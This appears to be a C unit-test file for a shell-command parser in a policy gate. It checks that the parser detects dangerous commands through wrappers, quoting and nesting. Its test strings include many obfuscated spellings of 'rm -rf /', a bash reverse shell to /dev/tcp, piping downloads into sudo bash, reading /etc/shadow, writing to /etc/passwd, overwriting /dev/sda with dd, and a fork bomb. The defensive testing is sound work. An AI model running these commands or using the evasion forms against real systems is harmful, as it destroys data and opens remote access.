/* shell_test.c - splitting command lines into the simple commands they run. */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "policy/base/path.h"
#include "policy/shell/shell.h"
#include "shell_testlib.h"

TestSuite(shell, .init = setup, .fini = teardown);

static const agate_shell_cmd *find_prog(parsed p, const char *prog)
{
	for (size_t i = 0; i < p.n; i++)
		if (eq(p.c[i].program, prog))
			return &p.c[i];
	return NULL;
}

/* operand i normalised the way the rule evaluator does it */
static const char *operand_path(const agate_shell_cmd *c, size_t i)
{
	char *r = agate_path_normalize(arena, c->argv[i].ptr, c->argv[i].len, c->cwd);
	cr_assert_not_null(r);
	return r;
}

/* does the line hold an rm that deletes recursively and forcibly
 * something that normalises to "/" or "/ *" (without the space)? */
static bool deletes_root(const char *line)
{
	parsed p = parse(line);
	for (size_t i = 0; i < p.n; i++) {
		const agate_shell_cmd *c = &p.c[i];
		if (!eq(c->program, "rm") || !agate_shell_has_flag(c, 'r', "recursive") ||
		    !agate_shell_has_flag(c, 'f', "force"))
			continue;
		for (size_t k = 0; k < c->argc; k++) {
			const char *o;
			if (!agate_shell_is_operand(c, k))
				continue;
			o = operand_path(c, k);
			if (!strcmp(o, "/") || !strcmp(o, "/*"))
				return true;
		}
	}
	return false;
}

static const char *const system_dirs[] = { "/", "/etc", "/usr", "/bin", "/boot",
	"/var", "/lib", "/sbin", "/root", "/home", NULL };

/* does any operand of any command normalise to an absolute system path? */
static bool touches_system_path(const char *line)
{
	parsed p = parse(line);
	for (size_t i = 0; i < p.n; i++)
		for (size_t k = 0; k < p.c[i].argc; k++) {
			const char *o;
			if (!agate_shell_is_operand(&p.c[i], k))
				continue;
			o = operand_path(&p.c[i], k);
			for (const char *const *d = system_dirs; *d; d++)
				if (agate_path_under(o, *d))
					return true;
		}
	return false;
}

Test(shell, recursive_root_delete_in_every_spelling)
{
	cr_expect(deletes_root("rm -r -f /"));
	cr_expect(deletes_root("rm -fr /"));
	cr_expect(deletes_root("/bin/rm --recursive --force /"));
	cr_expect(deletes_root("sudo rm -rf /"));
	cr_expect(deletes_root("cd / && rm -rf *"));
	cr_expect(deletes_root("rm -rf /*"));
	cr_expect(deletes_root("rm -rf //"));
	cr_expect(deletes_root("rm -rf /tmp/../"));
	cr_expect(deletes_root("'rm' \"-rf\" /"));
	cr_expect(deletes_root("\\rm -rf /"));
	cr_expect(deletes_root("r''m -rf /"));
	cr_expect(deletes_root("rm -rf $'\\x2f'"));
	cr_expect(deletes_root("sudo -u root -E rm -rf /"));
	cr_expect(deletes_root("env -i PATH=/bin nohup nice -n 10 timeout 5 rm -rf / &"));
	cr_expect(deletes_root("bash -c 'rm -rf /'"));
	cr_expect(deletes_root("sh -lc \"sudo rm -rf /\""));
	cr_expect(deletes_root("echo $(rm -rf /)"));
	cr_expect(deletes_root("echo `rm -rf /`"));
	cr_expect(deletes_root("(cd /; rm -rf *)"));
	cr_expect(deletes_root("eval 'rm -rf /'"));
	cr_expect(deletes_root("bash <<< 'rm -rf /'"));
	cr_expect(deletes_root("bash <<EOF\nrm -rf /\nEOF\n"));
	cr_expect(deletes_root("ls; true && false || rm -rf /"));
	cr_expect(deletes_root("find /tmp -exec rm -rf / \\;"));
}

Test(shell, ordinary_commands_do_not_reach_system_paths)
{
	cr_expect_not(deletes_root("rm -rf ./build"));
	cr_expect_not(touches_system_path("rm -rf ./build"));
	cr_expect_not(touches_system_path("find . -name '*.pyc' -delete"));
	cr_expect_not(touches_system_path("cd build && rm -rf *"));
	cr_expect_not(deletes_root("rm -rf *"));
	cr_expect_not(deletes_root("echo 'rm -rf /'"));
	cr_expect_not(deletes_root("grep -r 'rm -rf /' ."));
	cr_expect_not(deletes_root("rm -r /")); /* no -f: a different rule's concern */
}

Test(shell, find_delete_keeps_its_operands_relative)
{
	parsed p = parse("find . -name '*.pyc' -delete");
	cr_assert_eq(p.n, 1);
	cr_expect(eq(p.c[0].program, "find"));
	cr_expect(eq(p.c[0].argv[2], "*.pyc"), "quotes removed");
	cr_expect_str_eq(operand_path(&p.c[0], 0), ".");
}

Test(shell, separators_split_commands)
{
	parsed p = parse("a; b && c || d | e & f\ng");
	const char *want[] = { "a", "b", "c", "d", "e", "f", "g" };
	cr_assert_eq(p.n, 7);
	for (size_t i = 0; i < 7; i++)
		cr_expect(eq(p.c[i].program, want[i]), "command %zu", i);
	cr_expect(p.c[3].piped_to);
	cr_expect(p.c[4].piped_from);
	cr_expect(p.c[4].background);
	cr_expect_not(p.c[5].background);
	cr_expect(eq(p.c[3].next_program, "e"));
	cr_expect(eq(p.c[4].prev_program, "d"));
}

Test(shell, quoting_and_escapes)
{
	parsed p = parse("echo 'a b' \"c \\\"d\\\" $x\" e\\ f g'h'\"i\" # comment; rm -rf /");
	cr_assert_eq(p.n, 1);
	cr_assert_eq(p.c[0].argc, 4);
	cr_expect(eq(p.c[0].argv[0], "a b"));
	cr_expect(eq(p.c[0].argv[1], "c \"d\" $x"));
	cr_expect(eq(p.c[0].argv[2], "e f"));
	cr_expect(eq(p.c[0].argv[3], "ghi"));
	p = parse("echo a\\\nb");
	cr_assert_eq(p.n, 1);
	cr_expect(eq(p.c[0].argv[0], "ab"), "line continuation joins");
	p = parse("printf $'\\x41\\n\\101'");
	cr_expect(eq(p.c[0].argv[0], "A\nA"));
}

Test(shell, separators_inside_quotes_do_not_split)
{
	parsed p = parse("echo 'a; b && c | d' \"e || f\"");
	cr_expect_eq(p.n, 1);
}

Test(shell, unterminated_quote_still_splits)
{
	parsed p = parse("ls; echo \"abc");
	cr_assert_eq(p.n, 2);
	cr_expect(eq(p.c[1].argv[0], "abc"));
	p = parse("echo $(rm -rf /");
	cr_expect_not_null(find_prog(p, "rm"));
}

Test(shell, wrappers_are_unwrapped)
{
	struct { const char *line, *prog; bool sudo; } cases[] = {
		{ "sudo -u www-data -g web ls /srv", "ls", true },
		{ "sudo -uroot -- id", "id", true },
		{ "sudo VAR=1 make install", "make", true },
		{ "doas -u root vi /etc/hosts", "vi", true },
		{ "env -i HOME=/x A=b python3 x.py", "python3", false },
		{ "env -u LANG -C /tmp ls", "ls", false },
		{ "/usr/bin/env bash x.sh", "bash", false },
		{ "nohup ./server &", "server", false },
		{ "nice -n 19 make", "make", false },
		{ "nice -5 make", "make", false },
		{ "time -p make", "make", false },
		{ "timeout 10 curl x", "curl", false },
		{ "timeout -s KILL -k 5 10s curl x", "curl", false },
		{ "xargs -0 -n 1 -I{} rm {}", "rm", false },
		{ "xargs -P4 -L 1 grep x", "grep", false },
		{ "exec -a name python3", "python3", false },
		{ "command rm x", "rm", false },
		{ "builtin cd /", "cd", false },
		{ "stdbuf -oL -e0 tail -f log", "tail", false },
		{ "ionice -c 3 rsync a b", "rsync", false },
		{ "chroot /mnt bash", "bash", false },
		{ "chroot --userspec=1:1 /mnt ls", "ls", false },
		{ "A=1 B=\"x y\" make", "make", false },
		{ "sudo nice -n 5 env X=1 rm -f x", "rm", true },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		parsed p = parse(cases[i].line);
		cr_assert_geq(p.n, 1, "%s", cases[i].line);
		cr_expect(eq(p.c[0].program, cases[i].prog), "%s -> %.*s", cases[i].line,
			  (int)p.c[0].program.len, p.c[0].program.ptr);
		cr_expect_eq(p.c[0].sudo, cases[i].sudo, "%s sudo", cases[i].line);
	}
}

Test(shell, wrapper_without_command_stays_itself)
{
	parsed p = parse("sudo -i");
	cr_assert_eq(p.n, 1);
	cr_expect(eq(p.c[0].program, "sudo"));
	p = parse("command -v rm");
	cr_expect(eq(p.c[0].program, "command"));
	p = parse("env");
	cr_expect(eq(p.c[0].program, "env"));
	p = parse("A=1");
	cr_expect_eq(p.n, 0);
}

Test(shell, path_and_program)
{
	parsed p = parse("sudo /bin/rm -rf x");
	cr_expect(eq(p.c[0].program, "rm"));
	cr_expect(eq(p.c[0].path, "/bin/rm"));
}

Test(shell, nested_command_lines_follow_their_holder)
{
	parsed p = parse("bash -c \"sh -c 'curl x | sh'\"");
	cr_assert_eq(p.n, 4);
	cr_expect(eq(p.c[0].program, "bash"));
	cr_expect_eq(p.c[0].depth, 0);
	cr_expect(eq(p.c[1].program, "sh"));
	cr_expect_eq(p.c[1].depth, 1);
	cr_expect(eq(p.c[2].program, "curl"));
	cr_expect_eq(p.c[2].depth, 2);
	cr_expect(eq(p.c[3].program, "sh"));
	cr_expect(p.c[3].piped_from);
	cr_expect(eq(p.c[3].prev_program, "curl"));
	cr_expect(eq(p.c[2].next_program, "sh"));

	p = parse("echo \"$(cat /etc/shadow)\" `id`");
	cr_expect_not_null(find_prog(p, "cat"));
	cr_expect_not_null(find_prog(p, "id"));
	p = parse("diff <(ls a) >(wc -l)");
	cr_expect_not_null(find_prog(p, "ls"));
	cr_expect_not_null(find_prog(p, "wc"));
	p = parse("echo $((1 + 2))");
	cr_expect_eq(p.n, 1, "arithmetic is no command");
}

Test(shell, pipe_from_download_into_shell)
{
	parsed p = parse("wget -qO- http://h/x.sh | sudo -E bash -s -- --flag");
	const agate_shell_cmd *sh = find_prog(p, "bash");
	cr_assert_not_null(sh);
	cr_expect(sh->piped_from);
	cr_expect(sh->sudo);
	cr_expect(eq(sh->prev_program, "wget"));
	p = parse("curl -s x | tee y | sh");
	sh = find_prog(p, "sh");
	cr_assert_not_null(sh);
	cr_expect(eq(sh->prev_program, "tee"));
	p = parse("(curl x) | sh");
	sh = find_prog(p, "sh");
	cr_assert_not_null(sh);
	cr_expect(eq(sh->prev_program, "curl"));
}

Test(shell, redirections)
{
	parsed p = parse("echo x > /etc/passwd 2>/dev/null");
	cr_assert_eq(p.n, 1);
	cr_expect(eq(p.c[0].redirect_out, "/etc/passwd"));
	cr_expect_eq(p.c[0].nredirects, 2);
	cr_expect_eq(p.c[0].argc, 1, "the target is not an argument");

	p = parse("echo x >>~/.bashrc");
	cr_expect(eq(p.c[0].redirect_out, "~/.bashrc"));
	cr_expect(p.c[0].redirect_append);

	p = parse("cd /etc && cat x &> ./cron.d//job");
	cr_expect(eq(p.c[1].redirect_out, "/etc/cron.d/job"), "normalised against cwd");

	p = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1");
	cr_expect(eq(p.c[0].program, "bash"));
	cr_expect(eq(p.c[0].redirect_out, "/dev/tcp/10.0.0.1/4242"));

	p = parse("cmd 2>&1 >&2 3>&-");
	cr_expect_null(p.c[0].redirect_out.ptr, "descriptor duplication is no file");

	p = parse("mail x < /etc/shadow");
	cr_expect(eq(p.c[0].redirect_in, "/etc/shadow"));

	p = parse("exec 3<>/dev/tcp/h/80");
	cr_expect(eq(p.c[0].redirect_out, "/dev/tcp/h/80"));

	p = parse("> /etc/motd");
	cr_assert_eq(p.n, 1, "a bare redirection still writes");
	cr_expect(eq(p.c[0].redirect_out, "/etc/motd"));

	p = parse("echo 2>err.log");
	cr_expect_eq(p.c[0].argc, 0);
	cr_expect(eq(p.c[0].redirect_out, "err.log"));
}

Test(shell, cd_tracking)
{
	parsed p = parse("cd /var/www; cd ../log && rm -rf x; cd; ls; cd -; ls; cd $D; ls");
	cr_assert_eq(p.n, 9);
	cr_expect_null(p.c[0].cwd);
	cr_expect_str_eq(p.c[2].cwd, "/var/log");
	cr_expect_str_eq(p.c[4].cwd, "~");
	cr_expect_null(p.c[6].cwd, "cd - is unknown");
	cr_expect_null(p.c[8].cwd, "cd $D is unknown");

	/* a subshell's cd stays inside it; a -c string inherits cwd */
	p = parse("(cd /etc; ls); ls; cd /tmp; bash -c 'ls'");
	cr_assert_eq(p.n, 6);
	cr_expect_str_eq(p.c[1].cwd, "/etc");
	cr_expect_null(p.c[2].cwd);
	cr_expect_str_eq(p.c[5].cwd, "/tmp");
}

Test(shell, literal_variables_are_followed)
{
	parsed p = parse("f='/etc/shadow'; c=$(cat \"$f\"); echo \"$c\"");
	const agate_shell_cmd *cat = find_prog(p, "cat");
	cr_assert_not_null(cat);
	cr_expect(eq(cat->argv[0], "/etc/shadow"));

	p = parse("export D=/usr/lib; rm -rf ${D}/x");
	cr_expect(eq(find_prog(p, "rm")->argv[1], "/usr/lib/x"));

	/* an assignment prefix binds only for its command */
	p = parse("X=/etc echo $X");
	cr_expect(eq(p.c[0].argv[0], "$X"));
	/* values from substitutions or parameters are unknown, and shadow */
	p = parse("A=/tmp; A=$(mktemp -d); rm -rf $A");
	cr_expect(eq(find_prog(p, "rm")->argv[1], "$A"));
	p = parse("d=/etc; f() { local d=$1; }; rm -rf $d");
	cr_expect(eq(find_prog(p, "rm")->argv[1], "$d"));
	/* single quotes do not expand; ${x:-y} gives x when it is set */
	p = parse("v=1; echo '$v' ${v:-2} \"${v}\"");
	cr_assert_eq(p.n, 1, "an assignment alone runs nothing");
	cr_expect(eq(p.c[0].argv[0], "$v"));
	cr_expect(eq(p.c[0].argv[1], "1"));
	cr_expect(eq(p.c[0].argv[2], "1"));
	/* a nested level sees outer bindings; its own do not leak */
	p = parse("t=/var; bash -c \"u=/x\"; (w=/y); echo $t $u $w");
	cr_expect(eq(find_prog(p, "echo")->argv[0], "/var"));
	cr_expect(eq(find_prog(p, "echo")->argv[1], "$u"));
	cr_expect(eq(find_prog(p, "echo")->argv[2], "$w"));
}

Test(shell, variable_expansion_is_bounded)
{
	/* each reference doubles the text: the budget stops the growth */
	char line[4096];
	size_t o = 0;
	const agate_shell_cmd *c;
	size_t n;
	int rc;

	o += (size_t)snprintf(line + o, sizeof(line) - o, "a0=xxxxxxxxxxxxxxxx;");
	for (int i = 1; i < 40; i++)
		o += (size_t)snprintf(line + o, sizeof(line) - o, "a%d=$a%d$a%d;", i, i - 1, i - 1);
	rc = agate_shell_parse(line, o, arena, 256, &c, &n);
	cr_expect(rc == 0 || rc == -ENOMEM, "rc %d", rc);
	cr_expect_lt(agate_arena_used(arena), (size_t)8 << 20);
}

Test(shell, control_structures)
{
	parsed p = parse("for f in $(ls /etc); do rm -rf \"$f\"; done");
	cr_expect_not_null(find_prog(p, "ls"));
	cr_expect_not_null(find_prog(p, "rm"));
	cr_expect_null(find_prog(p, "for"));
	p = parse("if [ -f x ]; then rm x; else touch x; fi");
	cr_expect_not_null(find_prog(p, "["));
	cr_expect_not_null(find_prog(p, "rm"));
	cr_expect_not_null(find_prog(p, "touch"));
	cr_expect_null(find_prog(p, "if"));
	p = parse("while read l; do echo $l; done < f");
	cr_expect_not_null(find_prog(p, "read"));
	p = parse("f() { rm -rf /; }; f");
	cr_expect(deletes_root("f() { rm -rf /; }; f"));
	cr_expect_null(find_prog(p, "f()"));
	p = parse(":(){ :|:& };:");
	cr_expect_geq(p.n, 2);
	cr_expect(eq(p.c[0].program, ":"));
	cr_expect(p.c[0].piped_to);
}

Test(shell, su_and_find_exec_and_watch)
{
	parsed p = parse("su - root -c 'rm -rf /var/lib'");
	const agate_shell_cmd *rm = find_prog(p, "rm");
	cr_assert_not_null(rm);
	cr_expect(rm->sudo, "su runs as another user");
	cr_expect_eq(rm->depth, 1);
	p = parse("find / -name '*.log' -exec sudo shred -u {} +");
	cr_expect_not_null(find_prog(p, "shred"));
	cr_expect(find_prog(p, "shred")->sudo);
	p = parse("watch -n 5 'df -h'");
	cr_expect_not_null(find_prog(p, "df"));
}

Test(shell, flags)
{
	parsed p = parse("rm -r -f -- -v x");
	const agate_shell_cmd *c = &p.c[0];
	cr_expect(agate_shell_has_flag(c, 'r', NULL));
	cr_expect(agate_shell_has_flag(c, 'f', "force"));
	cr_expect_not(agate_shell_has_flag(c, 'v', NULL), "after -- it is an operand");
	cr_expect_not(agate_shell_is_operand(c, 0));
	cr_expect_not(agate_shell_is_operand(c, 2), "-- itself is no operand");
	cr_expect(agate_shell_is_operand(c, 3));
	cr_expect(agate_shell_is_operand(c, 4));
	cr_expect_not(agate_shell_is_operand(c, 5), "out of range");

	p = parse("chmod --recursive=yes 777 x");
	cr_expect(agate_shell_has_flag(&p.c[0], 0, "recursive"));
	cr_expect_not(agate_shell_has_flag(&p.c[0], 0, "recurs"));
	cr_expect_not(agate_shell_has_flag(&p.c[0], 'R', NULL));
	cr_expect_not(agate_shell_has_flag(NULL, 'r', "recursive"));
	p = parse("cat -");
	cr_expect(agate_shell_is_operand(&p.c[0], 0), "- is stdin, an operand");
}

Test(shell, limits)
{
	const agate_shell_cmd *c;
	size_t n;
	char deep[512] = "";
	char *big;
	int rc;

	rc = agate_shell_parse("a;b;c;d", 7, arena, 3, &c, &n);
	cr_expect_eq(rc, -E2BIG);

	/* AGATE_SHELL_MAX_DEPTH + 1 levels of $( ) */
	for (int i = 0; i < AGATE_SHELL_MAX_DEPTH + 1; i++)
		strcat(deep, "$(");
	strcat(deep, "rm -rf /");
	for (int i = 0; i < AGATE_SHELL_MAX_DEPTH + 1; i++)
		strcat(deep, ")");
	rc = agate_shell_parse(deep, strlen(deep), arena, 256, &c, &n);
	cr_expect_eq(rc, -E2BIG, "too deep is refused, not silently skipped");
	cr_expect(deletes_root(deep + 2), "one level less is read through");

	big = malloc(AGATE_SHELL_MAX_LINE + 2);
	cr_assert_not_null(big);
	memset(big, 'a', AGATE_SHELL_MAX_LINE + 1);
	rc = agate_shell_parse(big, AGATE_SHELL_MAX_LINE + 1, arena, 256, &c, &n);
	cr_expect_eq(rc, -E2BIG);
	free(big);

	{
		agate_arena *tiny = agate_arena_new(64);
		cr_assert_not_null(tiny);
		rc = agate_shell_parse("echo one two three four five six", 32, tiny, 16, &c, &n);
		cr_expect_eq(rc, -ENOMEM);
		agate_arena_free(tiny);
	}
	rc = agate_shell_parse(NULL, 0, arena, 4, &c, &n);
	cr_expect_eq(rc, 0);
	cr_expect_eq(n, 0);
}

Test(shell, hostile_bytes_do_not_crash)
{
	/* every prefix of a nasty line, and a few raw byte patterns */
	const char *nasty = "a'b\"c$(d`e${f<(g)\\";
	const agate_shell_cmd *c;
	size_t n;
	char buf[64];

	for (size_t k = 0; k <= strlen(nasty); k++) {
		int rc = agate_shell_parse(nasty, k, arena, 64, &c, &n);
		cr_expect(rc == 0 || rc == -E2BIG);
		agate_arena_reset(arena);
	}
	for (int seed = 0; seed < 2000; seed++) {
		unsigned x = (unsigned)seed * 2654435761u + 1;
		for (size_t k = 0; k < sizeof(buf); k++) {
			x = x * 1103515245u + 12345u;
			buf[k] = "()<>|&;'\"`$\\ \n{}#=a-/*"[(x >> 16) % 23];
		}
		int rc = agate_shell_parse(buf, sizeof(buf), arena, 64, &c, &n);
		cr_expect(rc == 0 || rc == -E2BIG, "rc %d", rc);
		agate_arena_reset(arena);
	}
}

/* Plain lines (one command of plain words) take a short path; what it
 * returns must be what the full parser returns for the same line (a
 * trailing comment sends a line through the full parser). */
Test(shell, plain_lines_parse_like_the_full_parser)
{
	static const char *const lines[] = {
		"ls -la", "git status", "  make   -j2\ttest ", "/usr/bin/python3 -m pytest -q",
		"dd if=/dev/zero of=/dev/sda bs=1M", "curl -fsSL http://x.example/a.sh",
		"rm -rf /etc", "chmod 4755 /usr/local/bin/x", "a+b c", "rm/ -r x",
		/* look plain but are special: the full parser handles them */
		"sudo ls", "env X=1 ls", "cd /etc", "find . -name x", "bash", "X=1",
		"A=1 ls", "export X=1", "eval ls", "time ls", "/usr/bin/sudo rm -rf /",
		"for", "busybox rm -r /", "trap ls EXIT",
	};
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		char full[256];
		snprintf(full, sizeof(full), "%s #", lines[i]);
		parsed a = parse(lines[i]), b = parse(full);
		cr_assert_eq(a.n, b.n, "%s: %zu vs %zu commands", lines[i], a.n, b.n);
		for (size_t k = 0; k < a.n; k++) {
			const agate_shell_cmd *x = &a.c[k], *y = &b.c[k];
			cr_expect(x->program.len == y->program.len &&
				  !memcmp(x->program.ptr, y->program.ptr, x->program.len), "%s", lines[i]);
			cr_expect(x->path.len == y->path.len &&
				  !memcmp(x->path.ptr, y->path.ptr, x->path.len), "%s", lines[i]);
			cr_expect_eq(x->argc, y->argc, "%s", lines[i]);
			for (size_t j = 0; j < x->argc && j < y->argc; j++)
				cr_expect(x->argv[j].len == y->argv[j].len &&
					  !memcmp(x->argv[j].ptr, y->argv[j].ptr, x->argv[j].len),
					  "%s: argv[%zu]", lines[i], j);
			cr_expect_eq(x->sudo, y->sudo, "%s", lines[i]);
			cr_expect_eq(x->depth, y->depth, "%s", lines[i]);
			cr_expect_eq(x->piped_to || x->piped_from || x->background,
				     y->piped_to || y->piped_from || y->background, "%s", lines[i]);
			cr_expect_eq(!x->cwd, !y->cwd, "%s", lines[i]);
			cr_expect_eq(x->nredirects, y->nredirects, "%s", lines[i]);
		}
	}
	/* the short path keeps the fields a rule reads */
	parsed p = parse("/bin/rm -rf /etc");
	cr_assert_eq(p.n, 1);
	cr_expect(eq(p.c[0].program, "rm") && eq(p.c[0].path, "/bin/rm"));
	cr_expect(p.c[0].argc == 2 && eq(p.c[0].argv[0], "-rf") && eq(p.c[0].argv[1], "/etc"));
	cr_expect(!p.c[0].sudo && !p.c[0].cwd && !p.c[0].redirect_out.ptr);
}

/* ---- nesting: wrapped or nested any way a shell accepts ------------ */

/* prefix repeated n times, then core, then suffix repeated n times, in
 * a buffer the caller frees */
static char *nest(const char *prefix, size_t n, const char *core, const char *suffix)
{
	size_t lp = strlen(prefix), lc = strlen(core), ls = strlen(suffix);
	char *b = malloc(n * (lp + ls) + lc + 1), *o = b;

	cr_assert_not_null(b);
	for (size_t i = 0; i < n; i++, o += lp)
		memcpy(o, prefix, lp);
	memcpy(o, core, lc);
	o += lc;
	for (size_t i = 0; i < n; i++, o += ls)
		memcpy(o, suffix, ls);
	*o = '\0';
	return b;
}

static int parse_rc(const char *line)
{
	const agate_shell_cmd *c;
	size_t n;
	int rc = agate_shell_parse(line, strlen(line), arena, 256, &c, &n);
	agate_arena_reset(arena);
	return rc;
}

/* Wrappers have no count of their own: rm runs behind any number of
 * them, so rm is what the parser reports (issue: 33 gave "sudo"). */
Test(shell, any_number_of_wrappers_is_seen_through)
{
	static const char *const wrappers[] = { "sudo ", "nice ", "env ", "nohup ", "timeout 5 ",
		"env X=1 ", "nice -n 5 ", "command ", "exec ", "time ", "stdbuf -oL " };
	static const size_t depths[] = { 1, 32, 33, 100, 1000 };

	for (size_t w = 0; w < sizeof(wrappers) / sizeof(wrappers[0]); w++)
		for (size_t d = 0; d < sizeof(depths) / sizeof(depths[0]); d++) {
			char *line = nest(wrappers[w], depths[d], "rm -rf /", "");
			parsed p = parse(line);
			cr_assert_eq(p.n, 1, "%zu x %s", depths[d], wrappers[w]);
			cr_expect(eq(p.c[0].program, "rm"), "%zu x %s: %.*s", depths[d], wrappers[w],
				  (int)p.c[0].program.len, p.c[0].program.ptr);
			cr_expect(deletes_root(line), "%zu x %s", depths[d], wrappers[w]);
			cr_expect_eq(p.c[0].sudo, w == 0, "%zu x %s", depths[d], wrappers[w]);
			free(line);
			agate_arena_reset(arena);
		}
	/* mixed, 1000 of them */
	char *line = nest("sudo -u root nice -n 5 env A=1 nohup timeout -s KILL 5 ", 200,
			  "rm -rf /", "");
	cr_expect(deletes_root(line));
	free(line);
}

/* ((x)) is two subshells to POSIX sh, and ((x) ) to bash as well. */
Test(shell, double_parens_are_read_as_commands)
{
	cr_expect(deletes_root("((rm -rf /) )"));
	cr_expect(deletes_root("((rm -rf /))"));
	cr_expect(deletes_root("sh -c '((rm -rf /))'"));
	cr_expect(deletes_root("((sh -c 'rm -rf /'))"));
	cr_expect(deletes_root("((true; (rm -rf /)))"));
	cr_expect(deletes_root("if ((1)); then ((rm -rf /)); fi"));
	/* substitutions inside arithmetic run in every shell */
	cr_expect(deletes_root("(( $(rm -rf /) ))"));
	cr_expect(deletes_root("echo $(( $(rm -rf /) + 1 ))"));
	cr_expect(deletes_root("echo \"$(( `rm -rf /` ))\""));
	cr_expect(deletes_root("for ((i = $(rm -rf /); i < 3; i++)); do :; done"));
	/* bash reads $((cmd) ) as a command substitution */
	cr_expect(deletes_root("echo $((rm -rf /) )"));
	/* plain arithmetic expansion is no command */
	parsed p = parse("echo $((1 + 2)) \"$((x * 2))\"");
	cr_expect_eq(p.n, 1);
	p = parse("for ((i = 0; i < 3; i++)); do echo $i; done");
	cr_expect_eq(p.n, 1, "the for header is arithmetic");
}

/* n nested subshells: found up to AGATE_SHELL_MAX_DEPTH levels, refused
 * (the gate blocks) beyond, never skipped. */
Test(shell, nested_subshells_to_the_limit_and_beyond)
{
	static const size_t depths[] = { 1, 16, 32, 33, 100, 1000 };

	for (size_t d = 0; d < sizeof(depths) / sizeof(depths[0]); d++) {
		static const char *const forms[][2] = {
			{ "(", ")" }, { "( ", " )" }, { "{ ", "; }" }, { "echo $(", ")" },
			{ "cat <(", ")" },
		};
		for (size_t f = 0; f < sizeof(forms) / sizeof(forms[0]); f++) {
			char *line = nest(forms[f][0], depths[d], "rm -rf /", forms[f][1]);
			/* braces group without a level; every other form is
			 * one level per repetition */
			bool levels = f != 2;
			if (!levels || depths[d] <= AGATE_SHELL_MAX_DEPTH)
				cr_expect(deletes_root(line), "%zu x %s", depths[d], forms[f][0]);
			else
				cr_expect_eq(parse_rc(line), -E2BIG, "%zu x %s", depths[d], forms[f][0]);
			free(line);
			agate_arena_reset(arena);
		}
		/* ((  )) counts two levels */
		char *line = nest("((", depths[d], "rm -rf /", "))");
		if (2 * depths[d] <= AGATE_SHELL_MAX_DEPTH)
			cr_expect(deletes_root(line), "%zu x ((", depths[d]);
		else
			cr_expect_eq(parse_rc(line), -E2BIG, "%zu x ((", depths[d]);
		free(line);
		agate_arena_reset(arena);
	}
}

/* Command substitutions inside ${ }, in unquoted here-document bodies,
 * and every -exec of find run: each is parsed. */
Test(shell, substitutions_wherever_a_shell_runs_them)
{
	cr_expect(deletes_root("echo ${x:-$(rm -rf /)}"));
	cr_expect(deletes_root("echo \"${x:-`rm -rf /`}\""));
	cr_expect(deletes_root("y=${x:=${z:-$(rm -rf /)}}"));
	cr_expect(deletes_root("cat <<EOF\nhello $(rm -rf /)\nEOF\n"));
	cr_expect(deletes_root("cat <<-EOF\n\t`rm -rf /`\n\tEOF\n"));
	parsed p = parse("cat <<'EOF'\n$(rm -rf /)\nEOF\n");
	cr_expect_null(find_prog(p, "rm"), "a quoted delimiter expands nothing");
	cr_expect(deletes_root("find . -maxdepth 0 -exec true \\; -exec true \\; -exec true \\;"
			       " -exec true \\; -exec rm -rf / \\;"));
}

/* A construct nested past scan()'s fixed stack used to swallow the rest
 * of the line as one word; now the line is refused. */
Test(shell, nesting_past_the_scanner_is_refused)
{
	char *inner = nest("\"${x:-", 70, "", "}\"");
	size_t n = strlen(inner) + 64;
	char *line = malloc(n);

	cr_assert_not_null(line);
	snprintf(line, n, "echo ${x:-%s}; rm -rf /", inner);
	cr_expect_eq(parse_rc(line), -E2BIG);
	free(line);
	free(inner);
}

/* The work budget: each level reads its text again; a line that would
 * be read more than AGATE_SHELL_MAX_STEPS bytes' worth is refused. */
Test(shell, work_budget_bounds_the_parse)
{
	size_t body = AGATE_SHELL_MAX_LINE - 64;
	char *core = malloc(body + 1);

	cr_assert_not_null(core);
	memset(core, 'a', body);
	core[body] = '\0';
	char *shallow = nest("(", 4, core, ")");
	char *deep = nest("(", 12, core, ")");
	cr_expect_eq(parse_rc(shallow), 0);
	cr_expect_eq(parse_rc(deep), -E2BIG, "12 readings of 1 MiB are past the budget");
	free(shallow);
	free(deep);
	free(core);
}

/* A case pattern's ')' inside $( ) or <( ) does not end them. */
Test(shell, case_patterns_do_not_close_substitutions)
{
	cr_expect(deletes_root("cat <( case a in a) rm -rf /;; esac )"));
	cr_expect(deletes_root("x=$(case a in (a) echo esac;; b) rm -rf /;; esac); ls"));
	cr_expect(deletes_root("( case a in a) rm -rf /;; esac )"));
	parsed p = parse("echo $(echo case a) && ls");
	cr_expect_not_null(find_prog(p, "ls"), "`case` as an argument is a word");
}

/* Other ways a shell is handed a command line: trap strings, coproc
 * bodies, scripts read from /dev/stdin, echo or printf piped into a
 * shell that reads its script from stdin. */
Test(shell, more_command_lines_a_shell_runs)
{
	cr_expect(deletes_root("trap 'rm -rf /' EXIT"));
	cr_expect(deletes_root("trap -- 'rm -rf /' INT TERM"));
	cr_expect(deletes_root("coproc c { rm -rf /; }"));
	cr_expect(deletes_root("bash /dev/stdin <<< 'rm -rf /'"));
	cr_expect(deletes_root("source /dev/stdin <<< 'rm -rf /'"));
	cr_expect(deletes_root(". /dev/stdin <<EOF\nrm -rf /\nEOF\n"));
	cr_expect(deletes_root("echo 'rm -rf /' | sh"));
	cr_expect(deletes_root("echo -n rm -rf / | sudo bash -s"));
	cr_expect(deletes_root("printf '%s\\n' 'rm -rf /' | sh"));
	cr_expect(deletes_root("printf 'cd /tmp\\nrm -rf /\\n' | bash"));
	/* what printf and echo -e write, escapes and all */
	parsed p = parse("printf '%s %s\\n' rm -rf / | sh");
	cr_expect_not_null(find_prog(p, "/"), "the format is used twice: 'rm -rf', then '/'");
	cr_expect_not_null(find_prog(p, "rm"));
	p = parse("printf '%s\\n' 'echo a\\\\nrm -rf /' | sh");
	cr_expect_null(find_prog(p, "rm"), "arguments are not unescaped");
	cr_expect(deletes_root("echo -e 'ls\\nrm -rf /' | sh"));
	p = parse("echo 'rm -rf /' | cat");
	cr_expect_null(find_prog(p, "rm"), "only a shell runs its input");
	p = parse("trap -p EXIT");
	cr_expect_eq(p.n, 1);
}
